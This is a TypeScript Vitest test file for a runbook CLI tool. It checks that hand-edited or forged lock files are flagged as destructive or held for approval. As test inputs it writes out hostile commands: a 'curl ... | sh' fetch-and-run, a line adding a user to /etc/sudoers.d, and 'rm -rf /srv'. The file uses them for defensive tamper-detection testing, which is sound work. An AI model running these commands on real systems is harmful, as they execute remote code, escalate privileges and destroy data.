/** A person edits commands of a lock by hand and seals it again: what is said of the edit. */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { parse } from 'yaml';
import type { Lock, LockedCommand } from '../../src/ir/lock.ts';
import { printLock } from '../../src/lock/print-lock.ts';
import { git, runbook } from '../support/cli.ts';

let root = '';

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'reseal story '));
  await runbook(['init'], { cwd: root });
  // Nothing here may ever reach a machine.
  const inventory =
    'hosts: { here: { address: 192.0.2.1, family: debian }, there: { address: 192.0.2.2, family: debian } }';
  await writeFile(join(root, 'inventory.yaml'), `${inventory}\ngroups: { hello: { hosts: [here] } }\n`);
  await runbook(['plan', '--offline'], { cwd: root });
  await git(root, 'add', '-A');
  await git(root, 'commit', '-q', '-m', 'lock');
});

afterAll(() => rm(root, { recursive: true, force: true }));

it('names each edited command with the effect that it has now', async () => {
  const path = join(root, 'runbooks/hello.lock.yaml');
  const text = await readFile(path, 'utf8');
  await writeFile(
    path,
    text.replace(
      'chmod 00755 "$HOME/runbook-hello"',
      'chmod 00755 "$HOME/runbook-hello"; curl -s https://example.com/x | sh',
    ),
  );
  const { code, stdout, stderr } = await runbook(['reseal', 'hello'], { cwd: root });
  expect(code, stderr).toBe(0);
  expect(stdout).toBe(
    'sealed runbooks/hello.lock.yaml: a person edited 1 command\n  create-directory-runbook-hello-mode.1 (destructive)\n',
  );
});

it.each<[string, Partial<LockedCommand>]>([
  ['another text', { run: 'echo "eve ALL=(ALL) ALL" > /etc/sudoers.d/eve', effect: 'change', reasons: [] }],
  ['a text that is run as the check', { check: 'rm -rf /srv', effect: 'change', reasons: [] }],
])('asks for approval where a hand sealed %s under a mild label', async (_, forged) => {
  const path = join(root, 'runbooks/hello.lock.yaml');
  await git(root, 'checkout', '-q', '--', '.');
  const { digest: _digest, ...lock } = parse(await readFile(path, 'utf8')) as Lock;
  const [step] = lock.steps;
  Object.assign(Object.values(step?.commands ?? {})[0]?.[0] ?? {}, forged);
  await writeFile(
    path,
    printLock({ ...lock, steps: [{ ...step, approve: true }, ...lock.steps.slice(1)] as Lock['steps'] }),
  );
  await git(root, 'commit', '-q', '-a', '-m', 'Forged');
  const { code, stderr } = await runbook(['apply', 'hello', '--approve', step?.id ?? ''], { cwd: root });
  expect([code, stderr]).toEqual([5, expect.stringMatching(/RB520.* is destructive .*is not what its op says/)]);
  await git(root, 'reset', '-q', '--hard', 'HEAD^');
});

it("asks for approval where a hand took the effect off a text that is its op's", async () => {
  const file = join(root, 'runbooks/sudo.yaml');
  await writeFile(
    file,
    'name: sudo\nhosts: here\nsteps:\n  - id: eve\n    intent: Add the line "eve ALL=(ALL) ALL" to /etc/sudoers\n',
  );
  const planned = await runbook(['plan', '--offline', 'sudo'], { cwd: root });
  expect(planned.code, planned.stderr).toBe(0);
  const path = file.replace('.yaml', '.lock.yaml');
  const { digest: _digest, ...lock } = parse(await readFile(path, 'utf8')) as Lock;
  for (const command of Object.values(lock.steps[0]?.commands ?? {}).flat())
    Object.assign(command, { effect: 'change', reasons: [] });
  await writeFile(path, printLock(lock));
  await git(root, 'add', '-A');
  await git(root, 'commit', '-q', '-m', 'Forged');
  const { code, stderr } = await runbook(['apply', 'sudo'], { cwd: root });
  expect([code, stderr]).toEqual([5, expect.stringContaining('RB520')]);
});

it('seals nothing where HEAD has an edit that nobody sealed, since it could not be marked', async () => {
  const path = join(root, 'runbooks/hello.lock.yaml');
  await git(root, 'checkout', '-q', '--', '.');
  await writeFile(path, (await readFile(path, 'utf8')).replace('chmod 00755', 'chmod 00777'));
  await git(root, 'commit', '-q', '-a', '-m', 'edited');
  const refused = await runbook(['reseal', 'hello'], { cwd: root });
  expect(refused).toMatchObject({ code: 3, stderr: expect.stringMatching(/RB641.*\n.*git revert/) });
  await git(root, 'revert', '--no-edit', 'HEAD');
  expect((await runbook(['reseal', 'hello'], { cwd: root })).code).toBe(0);
});

it('asks for approval where a guard would take a step back with harm', async () => {
  const file = join(root, 'runbooks/net.yaml');
  const intent =
    'Run "networkctl reload" unless "test -e /run/x" succeeds, verified by "true", undone by "rm -rf /srv"';
  await writeFile(file, `name: net\nhosts: here\nsteps:\n  - id: net\n    intent: '${intent}'\n`);
  const planned = await runbook(['plan', '--offline', 'net'], { cwd: root });
  expect(planned.code, planned.stderr).toBe(0);
  await git(root, 'add', '-A');
  await git(root, 'commit', '-q', '-m', 'Net');
  const { code, stderr } = await runbook(['apply', 'net'], { cwd: root });
  expect([code, stderr]).toEqual([
    5,
    expect.stringMatching(/RB520.*its guard takes it back by itself, and that is destr/),
  ]);
});
